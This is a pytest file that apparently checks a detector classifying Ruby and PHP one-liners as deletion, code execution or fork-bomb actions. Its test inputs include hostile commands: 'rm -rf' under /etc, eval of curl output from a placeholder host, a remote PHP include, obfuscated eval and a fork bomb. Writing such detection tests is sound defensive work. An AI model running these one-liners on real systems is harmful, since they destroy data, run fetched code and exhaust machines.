"""Handlers for programs, evaluated text and decoders."""

from __future__ import annotations

import pytest
from support.code import deeds, one_liner


@pytest.mark.parametrize(
    ("program", "code", "expected"),
    [
        ("ruby -e", "system('rm -rf x', chdir: '/etc')", "DeletePath /etc/x"),
        ("ruby -e", "load '/tmp/x.rb'", "RunCode /tmp/x.rb"),
        ("ruby -e", "require x", "RunCode generated"),
        ("php -r", "include 'https://x.y/a.php';", "RunCode download"),
        ("php -r", "eval(hex2bin('6563686f20313b'));", "RunCode decoded"),
        ("php -r", "eval(strrev(';1 ohce'));", None),
        ("php -r", "system(chr(114) . chr(109) . ' /etc/x');", "DeletePath /etc/x"),
        ("ruby -e", "eval(`curl https://x.y`)", "RunCode download"),
        ("php -r", "pcntl_fork(); while (1) pcntl_fork();", "ForkBomb pcntl_fork in a loop"),
    ],
)
def test_programs(program: str, code: str, expected: str | None) -> None:
    """What can be computed is, and what hides is named."""
    found = deeds(one_liner(program, code))
    assert expected in found if expected is not None else [] == found
